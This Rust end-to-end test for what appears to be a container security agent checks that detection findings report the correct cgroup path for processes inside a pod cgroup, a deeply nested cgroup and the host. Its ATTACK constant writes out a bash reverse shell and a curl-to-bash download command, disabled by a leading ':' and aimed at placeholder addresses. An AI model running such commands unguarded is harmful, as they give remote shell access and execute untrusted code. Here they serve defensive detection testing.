//! Where a process is, as the kernel half reads it: on version 2 alone (virtual machines) and beside version 1 (here).

use std::{
    fs,
    io::Write,
    os::unix::process::CommandExt,
    path::{Path, PathBuf},
};

use e2e::{node::Node, shell};
use serde_json::Value;

/// Malicious by any model, and inert: `:` runs instead.
const ATTACK: &str = ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x | bash";
const ID: &str = "00000000000000000000000000000000000000000000000000000000000000aa";
const UID: &str = "6b1d3a5e-0c1f-4e6a-9f1b-2f3c4d5e6f70";

/// A cgroup that is removed when dropped, with the directories above it that this test made.
struct Cgroup(Vec<PathBuf>);

impl Cgroup {
    /// In the hierarchy that tells containers apart: a controller's where there are such.
    fn make(path: &str) -> Self {
        let v1 = Path::new("/sys/fs/cgroup/pids");
        let root = if v1.exists() { v1 } else { Path::new("/sys/fs/cgroup") };
        let mut made = Vec::new();
        let mut at = root.to_owned();
        for name in path.split('/') {
            at.push(name);
            if !at.exists() {
                fs::create_dir(&at).expect("a cgroup");
                made.push(at.clone());
            }
        }
        Self(made)
    }

    fn procs(&self) -> PathBuf {
        self.0.last().expect("a cgroup").join("cgroup.procs")
    }
}

impl Drop for Cgroup {
    fn drop(&mut self) {
        for path in self.0.iter().rev() {
            // A process that is still ending keeps it for a moment; nothing is lost if it stays.
            let _ = fs::remove_dir(path);
        }
    }
}

fn run_in(procs: &Path, text: &str) {
    let mut file = fs::File::options().write(true).open(procs).expect("a cgroup");
    let mut command = shell::quiet("/bin/bash");
    command.args(["-c", text]);
    // SAFETY: between fork and exec only a file descriptor that is open is written to; "0" is the writer.
    unsafe { command.pre_exec(move || file.write_all(b"0")) };
    command.status().expect("a shell");
}

fn property(finding: &Value, key: &str) -> String {
    finding["sourceProperties"][key].as_str().unwrap_or_default().to_owned()
}

#[test]
fn the_kernel_tells_the_cgroup_even_when_it_is_gone() {
    let node = Node::start(&[]).expect("a node");
    let path = format!("kubepods/burstable/pod{UID}/{ID}/init.scope");
    let cgroup = Cgroup::make(&path);
    run_in(&cgroup.procs(), ATTACK);
    drop(cgroup);
    // One that is deeper than any runtime makes them has no container, whatever its end is called.
    let deep = format!("{}pod{UID}/{ID}", "d/".repeat(40));
    let cgroup = Cgroup::make(&deep);
    run_in(&cgroup.procs(), &format!("{ATTACK} # deep"));
    drop(cgroup);
    shell::run("/bin/bash", &["-c", &format!("{ATTACK} # outside")]).expect("a shell");
    let findings = node.wait_for(|all| all.len() == 3).expect("findings");
    let of = |end: &str| {
        let found = findings.iter().find(|f| {
            f["processes"][0]["script"]["contents"].as_str().is_some_and(|text| text.ends_with(end))
        });
        property(found.expect("a finding"), "Cgroup_Path")
    };
    assert_eq!(of("bash"), format!("/{path}"));
    assert!(of("# deep").ends_with(&format!("/pod{UID}/{ID}")), "{}", of("# deep"));
    assert!(!of("# outside").contains("kubepods"));
    let outcome = node.finish().expect("an outcome");
    assert_eq!(outcome.total("events_lost_total"), 0);
    assert_eq!(outcome.total("containers_known"), 1, "the deep one is nobody's");
}
